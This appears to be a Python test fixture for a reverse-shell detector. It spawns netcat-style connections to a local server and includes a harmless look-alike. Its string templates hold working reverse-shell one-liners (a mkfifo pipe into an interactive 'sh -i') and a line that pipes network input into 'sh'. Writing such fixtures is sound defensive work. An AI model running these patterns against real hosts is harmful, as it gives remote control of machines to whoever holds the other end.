"""Jobs of a shell in which one program is connected: what reverse shells are made of, and what looks like them."""

from __future__ import annotations

import shlex
import socket
import sys
import tempfile
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any, NamedTuple

from tests.findings.processes import running
from tests.sources.net import PATIENCE

NETCAT = """
import os, socket, sys, threading
end = socket.create_connection((sys.argv[1], int(sys.argv[2])))
end.sendall(b"%d\\n" % os.getpid())
def take():
    while told := end.recv(999):
        os.write(1, told)
    os._exit(0)
threading.Thread(target=take, daemon=True).start()
while answer := os.read(0, 999):
    end.sendall(answer)
"""
"""What nc(1) does, once it has said its pid to the other end."""

FIFO_AND_CAT = "mkfifo f; cat f | sh -i 2>&1 | {nc} > f"
FIFO = "mkfifo f; {nc} < f | sh -i > f 2>&1"
INSTALLER = "sleep 600 | {nc} | sh"
VIEWER = "sleep 600 | {nc} | cat > log"
"""Lines for a shell; {nc} stands for the program with the connection."""


class Job(NamedTuple):
    """A job: the pid of its connected program, the other end of the connection, and the folder it works in."""

    pid: int
    far: socket.SocketIO
    folder: Path

    def tell(self, line: bytes) -> None:
        """Have the connected program write a line."""
        self.far.write(line)

    def hear(self, wanted: bytes) -> None:
        """Wait until it has sent back what ends with this, a line of its own."""
        while not self.far.readline().endswith(wanted):
            pass


@contextmanager
def job(line: str, host: str = "127.0.0.1", typed: bytes = b"", **options: Any) -> Iterator[Job]:
    """Run a line for a shell, or what is `typed` to one; it ends with all that it has started."""
    with tempfile.TemporaryDirectory() as made, socket.create_server((host, 0)) as waiting:
        waiting.settimeout(PATIENCE)
        program = Path(made) / "nc.py"
        program.write_text(NETCAT)
        nc = shlex.join([sys.executable, str(program), host, str(waiting.getsockname()[1])])
        argv = ("-c", line.format(nc=nc)) if line else ()
        with running("sh", *argv, cwd=made, **options) as shell:
            if typed and shell.stdin:
                shell.stdin.write(typed.replace(b"{nc}", nc.encode()) + b"\n")
            end, _ = waiting.accept()
            end.settimeout(PATIENCE)
            with end, end.makefile("rwb", buffering=0) as far:
                yield Job(int(far.readline()), far, Path(made))
